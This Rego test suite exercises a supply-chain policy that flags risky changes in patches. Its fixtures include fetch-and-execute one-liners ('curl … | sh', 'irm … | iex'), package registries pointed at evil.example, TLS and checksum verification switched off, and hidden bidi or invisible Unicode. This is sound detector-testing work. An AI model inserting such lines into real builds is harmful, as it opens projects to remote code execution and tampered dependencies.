package cabincrew.supply_chain_test

import data.cabincrew.supply_chain

# a changed text file that gains and loses lines; members of extra win
file(path, gains, losses, extra) := object.union(
	{
		"op": "modify", "path": path, "old_path": path, "old_mode": "100644", "new_mode": "100644", "binary": false,
		"added": count(gains), "deleted": count(losses), "added_lines": gains, "deleted_lines": losses, "truncated": false, "executable_changed": false,
		"hunks": [{"old_start": 7, "new_start": 7, "lines": array.concat(
			[{"op": "-", "line": 7 + n, "text": text} | some n, text in losses],
			[{"op": "+", "line": 7 + n, "text": text} | some n, text in gains],
		)}],
	},
	extra,
)

gains(path, lines) := file(path, lines, [], {})

loses(path, lines) := file(path, [], lines, {})

swaps(path, before, after) := file(path, after, before, {})

patch(files) := {"artifacts": [{"name": "changes", "artifact_type": "patch", "patch": {"files": files}}]}

ids(set) := {m.id | some m in set}

# ids of all findings over a patch of these files
judged(files) := found if {
	found := ids((supply_chain.deny | supply_chain.require_approval) | supply_chain.warn) with input as patch(files)
}

# Many cases go into one patch, since an evaluation costs more than a case: the
# n-th stands in the directory n.
spread(cases) := [gains(sprintf("%d/%s", [n, c[0]]), c[1]) | some n, c in cases]

every_line(path, lines) := spread([[path, [line]] | some line in lines])

# files that a rule names
named(id, files) := found if {
	found := {f | some m in ((supply_chain.deny | supply_chain.require_approval) | supply_chain.warn); m.id == id; some f in m.files} with input as patch(files)
}

# the files for which a rule does not fire as it should
missed(id, files) := {f.path | some f in files} - named(id, files)

test_ordinary_change_is_quiet if judged([
	gains("main.go", ["\tfmt.Println(\"curl and wget\") // uses: nothing", "import \"net/http\"", strings_of(900, "ab ")]),
	gains("docs/install.md", ["Run `curl https://example.com/install.sh | sh`.", "naïve café – “quotes” 日本語 Привет"]),
	swaps("go.mod", ["\tgolang.org/x/net v0.1.0"], ["\tgolang.org/x/net v0.2.0"]),
	swaps("go.sum", ["golang.org/x/net v0.1.0 h1:a="], ["golang.org/x/net v0.2.0 h1:b="]),
	gains("logo.svg", ["<svg>"]), file("logo.png", [], [], {"binary": true}),
]) == set()

test_nothing_is_quiet if judged([]) == set()

test_other_artifacts_are_quiet if {
	count(supply_chain.deny | supply_chain.require_approval) == 0 with input as {"artifacts": [{"name": "note", "artifact_type": "note", "body": "uses: x@v1"}]}
}

strings_of(n, s) := concat("", [s | some _ in numbers.range(1, n)])

workflow(line) := gains(".github/workflows/ci.yml", ["jobs:", line])

test_unpinned_action if {
	missed("unpinned-action", every_line(".github/workflows/ci.yml", [
		"      - uses: actions/checkout@v4", "uses: \"a/b@main\"", "    uses: o/r/.github/workflows/x.yml@v1", "- uses: docker://alpine:3.20",
		"- {uses: a/b@v1, with: {x: y}}", "'uses': a/b@v2", "      - uses:", "- uses: a/b@de0fac2e4500dabe0009e67214ff5f5447ce83d", "uses: a/b",
	])) == set()
	missed("unpinned-action", [gains("action.yml", ["    - uses: a/b@v1"]), gains(".GitHub//workflows/ci.yml", ["    - uses: a/b@v1"])]) == set()
}

test_pinned_action if {
	judged(every_line(".github/workflows/ci.yml", [
		"      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "- uses: ./.github/actions/x", "# nobody uses it",
		"- uses: docker://alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000", "name: it uses x", "reuses: a/b@v1",
	])) == set()
	judged([gains("docs/ci.yml", ["- uses: a/b@v1"]), loses(".github/workflows/ci.yml", ["- uses: a/b@v1"])]) == set()
	judged([workflow("- uses: actions/checkout@v4")]) == set() with data.cabincrew_supply_chain.trusted_actions as ["actions/"]
}

test_message_names_place_and_remedy if {
	some m in supply_chain.require_approval with input as patch([workflow("  - uses: a/b@v1")])
	contains(m.msg, `".github/workflows/ci.yml" line 8 (a/b@v1)`)
	contains(m.msg, "commit hash")
	m.role == "maintainer"
	m.files == {".github/workflows/ci.yml"}
	m.artifact == "changes"
}

test_many_places if {
	some m in supply_chain.require_approval with input as patch([gains(".github/workflows/ci.yml", [sprintf("- uses: a/b%d@v1", [i]) | some i in numbers.range(1, 15)])])
	contains(m.msg, "and 5 more")
}

image(line) := gains("build/Dockerfile", [line])

test_unpinned_image if {
	missed("unpinned-image", every_line("Dockerfile", ["FROM alpine:3.20", "from golang AS build", "FROM --platform=$BUILDPLATFORM alpine", "FROM ghcr.io/a/b:1"])) == set()
	missed("unpinned-image", [gains("x.Dockerfile", ["FROM alpine"]), gains("Dockerfile.dev", ["FROM alpine"]), gains("Containerfile", ["FROM alpine"])]) == set()
}

test_pinned_image if {
	judged(every_line("Dockerfile", [
		"FROM scratch", "FROM $BASE", "FROM ${BASE}", "RUN echo FROM alpine", "# FROM x",
		"FROM alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000 AS x",
	])) == set()
	judged([gains("Dockerfile", ["FROM a@sha256:0 AS build", "FROM build"]), gains("docker.md", ["FROM alpine"])]) == set()
}

test_image_registry if {
	judged(every_line("Dockerfile", ["FROM evil.example/a@sha256:00", "FROM localhost:5000/a@sha256:00", "FROM localhost/a@sha256:00"])) == {"new-registry"}
	missed("new-registry", every_line("Dockerfile", ["FROM evil.example/a@sha256:00", "FROM localhost:5000/a@sha256:00", "FROM localhost/a@sha256:00"])) == set()
	judged(every_line("Dockerfile", ["FROM library/alpine@sha256:00", "FROM quay.io/a/b@sha256:00"])) == set()
}

sources := {
	".npmrc": ["registry=https://npm.evil.example/", "@corp:registry=https://npm.evil.example"],
	".yarnrc.yml": ["npmRegistryServer: \"https://evil.example\""],
	"package.json": [`"left-pad": "git+ssh://git@github.com/a/b.git"`, `"x": "github:a/b"`, `"x": "https://evil.example/x.tgz"`],
	"requirements-dev.txt": ["--extra-index-url https://evil.example/simple", "-i https://evil.example", "x @ https://evil.example/x.whl", "git+https://github.com/a/b"],
	"pyproject.toml": ["[[tool.uv.index]]", "[[tool.poetry.source]]"],
	".cargo/config.toml": ["[registries.evil]", "[source.crates-io]", "replace-with = \"evil\""],
	"Cargo.toml": ["x = { git = \"https://github.com/a/b\" }"],
	"go.mod": ["replace a.example/x => b.example/x v1.0.0", "\ta.example/x v1.0.0 => github.com/evil/x v1.0.1"],
	"Gemfile": ["source \"https://evil.example\"", "gem \"x\", git: \"https://github.com/a/b\""],
	"composer.json": ["\"repositories\": ["],
	"pom.xml": ["<repository>"],
	"build.gradle.kts": ["maven { url = uri(\"https://evil.example\") }"],
	"NuGet.Config": ["<add key=\"x\" value=\"https://evil.example/index.json\" />"],
	".gitmodules": ["\turl = https://github.com/a/b"],
	"Makefile": ["export GOPROXY=https://evil.example,direct", "\tpip install --index-url https://evil.example x", "npm config set registry https://x"],
	".github/workflows/x.yml": ["  GOPROXY: https://evil.example", "  PIP_INDEX_URL: https://evil.example/"],
}

test_new_source if {
	missed("new-registry", spread([[path, [line]] | some path, lines in sources; some line in lines])) == set()
}

test_old_source if {
	named("new-registry", [loses(path, lines) | some path, lines in sources]) == set()
	named("new-registry", [swaps(path, lines, lines) | some path, lines in sources]) == set()
}

test_known_source if {
	named("new-registry", spread([
		[".npmrc", ["save-exact=true"]], ["package.json", ["\"name\": \"registry\""]], ["requirements.txt", ["requests==2.0 --hash=sha256:0"]],
		["Gemfile", ["source \"https://rubygems.org\""]], ["nuget.config", ["<add key=\"nuget.org\" value=\"https://api.nuget.org/v3/index.json\" />"]],
		["go.mod", ["replace a.example/x => ../x"]], ["Cargo.toml", ["registry-like = true"]], ["main.go", ["os.Getenv(\"GOPROXY\")"]],
		["ci.sh", ["export GOPROXY=off"]], ["build.gradle", ["mavenCentral()"]], ["pyproject.toml", ["urls = { home = \"https://example.com\" }"]],
	])) == set()
}

test_credentials_are_not_quoted if {
	some m in supply_chain.require_approval with input as patch([gains("requirements.txt", ["--index-url https://me:hunter2@evil.example/simple"])])
	contains(m.msg, "evil.example")
	not contains(m.msg, "hunter2")
}

locked := [
	["package-lock.json", `"resolved": "https://evil.example/x.tgz",`], ["yarn.lock", `  resolved "https://evil.example/x.tgz#0"`],
	["pnpm-lock.yaml", "resolution: {integrity: sha512-x, tarball: https://evil.example/x.tgz}"], ["uv.lock", `source = { registry = "https://evil.example/simple" }`],
	["Cargo.lock", `source = "git+https://github.com/a/b#0"`], ["Gemfile.lock", "  remote: https://evil.example/"], ["poetry.lock", `url = "https://evil.example/simple"`],
]

test_locked_host if {
	missed("new-registry", spread([[l[0], [l[1]]] | some l in locked])) == set()
	named("new-registry", [swaps(l[0], [l[1]], [l[1]]) | some l in locked]) == set()
	named("new-registry", spread([
		["package-lock.json", [`"resolved": "https://registry.yarnpkg.com/x/-/x.tgz",`]], ["yarn.lock", [`  resolved "https://registry.yarnpkg.com/x.tgz#0"`]],
		["Cargo.lock", [`source = "registry+https://github.com/rust-lang/crates.io-index"`]], ["Gemfile.lock", ["  remote: https://rubygems.org/"]],
		["package-lock.json", [`"url": "https://opencollective.com/x"`]],
	])) == set()
}

test_verification_off if {
	cases := spread([
		[".npmrc", ["strict-ssl=false"]], ["pip.conf", ["trusted-host = evil.example"]], ["Dockerfile", ["ENV GOSUMDB=off"]], ["Makefile", ["export GONOSUMDB=evil.example/*"]],
		["ci.sh", ["git config --global http.sslVerify false"]], ["x.sh", ["curl -fsSLk https://x -o y"]], ["y.sh", ["GOFLAGS=-insecure go build"]],
		["b.yml", ["NODE_TLS_REJECT_UNAUTHORIZED: 0"]], ["c.sh", ["wget --no-check-certificate https://x"]],
	])
	missed("verification-off", cases) == set()
	judged(cases) == {"verification-off"}
	judged(spread([
		[".npmrc", ["strict-ssl=true"]], ["a.go", ["// GOSUMDB may be off"]], ["x.sh", ["curl -fsSL https://x -o key"]], ["d.md", ["curl -k https://x"]],
		["y.sh", ["GOFLAGS=-mod=vendor go build"]],
	])) == set()
}

test_lock_without_manifest if {
	cases := spread([[lock, ["x"]] | some lock in [
		"go.sum", "a/package-lock.json", "yarn.lock", "pnpm-lock.yaml", "npm-shrinkwrap.json", "Cargo.lock", "poetry.lock", "uv.lock", "Pipfile.lock",
		"Gemfile.lock", "composer.lock", ".terraform.lock.hcl", "Package.resolved", "Podfile.lock", "packages.lock.json", "gradle.lockfile", "flake.lock",
	]])
	missed("lock-without-manifest", cases) == set()
	judged(array.concat(cases, [gains("elsewhere/else.txt", ["x"])])) == {"lock-without-manifest"}
}

test_lock_with_manifest if {
	every pair in [
		["go.sum", "go.mod"], ["package-lock.json", "packages/a/package.json"], ["a/yarn.lock", "a/package.json"], ["Cargo.lock", "crates/x/Cargo.toml"],
		["uv.lock", "pyproject.toml"], ["Gemfile.lock", "x.gemspec"], [".terraform.lock.hcl", "versions.tf"], ["packages.lock.json", "App.csproj"],
	] {
		judged([gains(pair[0], ["x"]), gains(pair[1], ["y"])]) == set()
	}
	judged([gains("a/go.sum", ["x"]), gains("go.mod", ["y"])]) == {"lock-without-manifest"}
	judged([gains("requirements.txt", ["x==1"]), gains("requirements.in", ["x"])]) == set()
}

test_manifest_without_lock if {
	every path, line in {
		"go.mod": "\tgolang.org/x/net v0.2.0", "package.json": `    "left-pad": "^1.0.0",`, "Cargo.toml": `serde = { version = "1" }`, "pyproject.toml": `    "requests>=2",`,
		"Gemfile": `gem "rails", "~> 7"`, "composer.json": `"monolog/monolog": "^3"`, "requirements.in": "requests",
	} {
		judged([gains(path, [line])]) == {"manifest-without-lock"}
	}
	every path, line in {
		"go.mod": "go 1.26", "package.json": `  "version": "1.2.3",`, "Cargo.toml": `version = "0.2.0"`, "pyproject.toml": `version = "1.0"`, "main.tf": `resource "x" "y" {`,
	} {
		judged([gains(path, [line])]) == set()
	}
	judged([gains("a/package.json", [`"x": "^1.0.0"`]), gains("package-lock.json", [])]) == set()
	judged([gains("a/package.json", [`"x": "^1.0.0"`]), gains("b/package-lock.json", []), gains("b/package.json", [])]) == {"manifest-without-lock"}
}

test_install_script if {
	every path, line in {
		"package.json": `"postinstall": "node x.js",`, "setup.py": "setup(cmdclass={'install': X})", "x/build.rs": "fn main() {}", "binding.gyp": "{}", "ext/extconf.rb": "x",
		"site.pth": "import os", "pyproject.toml": "backend-path = [\".\"]", "composer.json": `"post-install-cmd": "x"`, "x.gemspec": "s.extensions = [\"ext/x\"]",
	} {
		judged([gains(path, [line])]) == {"install-script"}
	}
	every path, line in {"package.json": `"test": "node --test"`, "setup.py": "setup(name='x')", "src/build_rs.rs": "fn main() {}", "install.go": "postinstall()"} {
		judged([gains(path, [line])]) == set()
	}
	judged([file("build.rs", [], ["x"], {"op": "delete"})]) == set()
	judged([swaps("package.json", [`"prepare": "husky",`], [`"prepare": "husky"`])]) == set()
}

test_remote_script if {
	missed("remote-script", spread([["scripts/setup", lines] | some lines in [
		["RUN curl -fsSL https://x.example/i.sh | sh"], ["wget -qO- https://x | sudo -E bash -"], ["bash <(curl -s https://x)"], ["sh -c \"$(curl -fsSL https://x)\""],
		["curl -s https://x \\", "  | bash"], ["eval \"$(wget -qO- https://x)\""], ["irm https://x | iex"], ["curl x | python3 -"], ["curl -s x | FOO=1 /bin/sh -s -- -y"],
	]])) == set()
	missed("remote-script", every_line("gen.go", ["//go:generate curl -o x.go https://x", "//go:generate go run a.example/gen@latest"])) == set()
	judged(every_line("scripts/setup", [
		"curl -fsSL https://x -o x.sh", "curl -s https://x | jq .", "curl -s x | shasum -c", "wget x || sh fallback.sh", "curl x | python3 -m json.tool",
		"//go:generate go run ./gen", "//go:generate go run a.example/gen@v1.2.3", "# a curl of hair", "curl x | tar xz",
	])) == set()
}

test_checksum_removed if {
	every pair in [
		["package-lock.json", `"integrity": "sha512-x"`], ["yarn.lock", "  integrity sha512-x"], ["Cargo.lock", `checksum = "0"`], ["uv.lock", `{ hash = "sha256:0" }`],
		["requirements.txt", "    --hash=sha256:0"], [".terraform.lock.hcl", `    "h1:x=",`], ["Pipfile.lock", `"sha256:0"`], ["go.sum", "a.example/x v1.0.0 h1:x="],
	] {
		"checksum-removed" in judged([loses(pair[0], [pair[1]])])
	}
}

test_checksum_stays if {
	every pair in [
		["package-lock.json", ["\"resolved\": \"https://registry.yarnpkg.com/x\"", `"integrity": "sha512-x"`]], ["Cargo.lock", ["source = \"registry+x\"", `checksum = "0"`]],
		["uv.lock", ["[[package]]", `{ hash = "sha256:0" }`]], ["requirements.txt", ["x==1", "    --hash=sha256:0"]],
	] {
		not "checksum-removed" in judged([loses(pair[0], pair[1])])
		not "checksum-removed" in judged([file(pair[0], [], [pair[1][1]], {"op": "delete"})])
	}
	not "checksum-removed" in judged([swaps("requirements.txt", ["--hash=sha256:0", "--hash=sha256:1"], ["--hash=sha256:2"])])
	judged([loses("go.sum", ["a.example/x v1.0.0 h1:x="]), loses("go.mod", ["\ta.example/x v1.0.0"])]) == set()
	judged([loses("go.sum", ["a.example/x v1.0.0 h1:x="]), file("go.mod", [], [], {"op": "delete"})]) == set()
}

test_checksum_changed if {
	judged([gains("go.mod", []), swaps("go.sum", ["a.example/x v1.0.0 h1:x="], ["a.example/x v1.0.0 h1:y="])]) == {"checksum-changed"}
	judged([gains("go.mod", []), swaps("go.sum", ["a.example/x v1.0.0 h1:x="], ["a.example/x v1.0.0/go.mod h1:y=", "a.example/x v1.0.0 h1:x="])]) == set()
}

test_vendored if {
	judged([gains("vendor/a.example/x/x.go", ["x"])]) == {"vendored-code"}
	judged([gains("web/node_modules/x/index.js", ["x"]), gains("web/node_modules/x/package.json", ["{}"])]) == {"vendored-code"}
	judged([gains("vendor/a.example/x/x.go", ["x"]), gains("go.mod", ["x"])]) == set()
	judged([gains("src/vendor.go", ["x"]), gains("docs/vendors/x.md", ["x"])]) == set()
}

test_hidden_text if {
	cases := every_line("a.go", ["a\u202eb", "x := \"\u2066a\u2069\"", "\udb40\udc41\udb40\udc42", "\u202a"])
	missed("hidden-text", cases) == set()
	judged(cases) == {"hidden-text"}
	judged([loses("a.go", ["a\u202eb"])]) == set()
	missed("hidden-text", [gains(path, ["x"]) | some path in ["a\u202egnp.exe", "src/a\u200b.go", "a\u00ad.go", "\ufeffx"]]) == set()
	some m in supply_chain.deny with input as patch([gains("a.go", ["ok", "x\u202ey"])])
	contains(m.msg, `"a.go" line 8 ("\u202e")`)
}

test_invisible if {
	cases := spread([["a.go", ["ok", text]] | some text in ["a\u200bb", "if a\u2060 == b", "x\ufeff", "a\u00adb", "a\ufe01", "x\u3164 = 1", "pass\u200dword", "a\udb40\udd01"]])
	missed("invisible-character", cases) == set()
	judged(cases) == {"invisible-character"}
}

test_visible if judged(every_line("a.txt", [
	"\ufefffirst", "👩\u200d💻 ❤\ufe0f 1\ufe0f\u20e3", "🏴\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f", "می\u200cخواهم", "שלום,\u200f 1", "क्\u200dष",
	"葛\udb40\udd00", "naïve – “x” …", "Ünïcödé", "👍🏽\u200d", "🏳\ufe0f\u200d🌈",
])) == set()

test_mixed_scripts if {
	missed("mixed-scripts", every_line("a.go", ["p\u0430ypal", "\u0421onfig", "\u0391dmin"])) == set()
	judged(every_line("a.go", ["Привет, world", "Δt := 1", "µs αβγ", "HTTP-запрос"])) == set()
}

test_unreadable_code if {
	judged([gains("a.js", [strings_of(400, "abc")])]) == {"unreadable-code"}
	judged([gains("static/jquery-3.min.js", ["x"])]) == {"unreadable-code"}
	judged([gains("a.js", [strings_of(300, "abc ")]), gains("a.json", [strings_of(400, "abc")]), gains("b.js", [strings_of(300, "abc")]), gains("min.go", ["x"])]) == set()
	judged([gains("a.js", ["abcdef"])]) == {"unreadable-code"} with data.cabincrew_supply_chain.max_line as 5
	judged([file("a.min.js", [], ["x"], {"op": "delete"})]) == set()
}

test_binary_blob if {
	every path in ["tests/files/x.lzma", "a.so", "tool", "data.bin", "x.zip"] {
		judged([file(path, [], [], {"binary": true, "op": "add"})]) == {"binary-blob"}
		judged([file(path, [], [], {"binary": true, "op": "delete"})]) == set()
	}
	judged([file(path, [], [], {"binary": true}) | some path in ["a.PNG", "font.woff2", "doc.pdf", "x/y.jpeg"]]) == set()
}

test_unseen if judged([file("a.go", ["x"], [], {"truncated": true})]) == {"supply-chain-unseen"}

test_line_unknown if {
	some m in supply_chain.deny with input as patch([file("a.go", ["x\u202ey"], [], {"hunks": []})])
	contains(m.msg, `"a.go" ("\u202e")`)
}

test_thresholds if {
	ids(supply_chain.deny) == {"supply-chain-thresholds"} with input as patch([]) with data.cabincrew_supply_chain as {}
	ids(supply_chain.deny) == {"supply-chain-thresholds"} with input as patch([]) with data.cabincrew_supply_chain.max_line as "9"
}

test_every_finding_is_complete if {
	doc := patch([
		workflow("- uses: a/b@v1"), image("FROM evil.example/alpine"), gains("package-lock.json", ["x"]), gains("x/package.json", [`"x": "^1.0.0"`, `"postinstall": "x"`]),
		gains("a.sh", ["curl x | sh", "GOSUMDB=off"]), gains("b.go", ["\u202e", "a\u200bb", "p\u0430y"]), file("b.bin", [], [], {"binary": true, "truncated": true}),
	])
	every set in [supply_chain.deny, supply_chain.require_approval, supply_chain.warn] {
		count(set) > 0
		every m in set {
			count(m.msg) > 40
			count(m.id) > 5
			count(m.files) > 0
		}
	} with input as doc
	every m in supply_chain.require_approval { m.role == "maintainer" } with input as doc
}
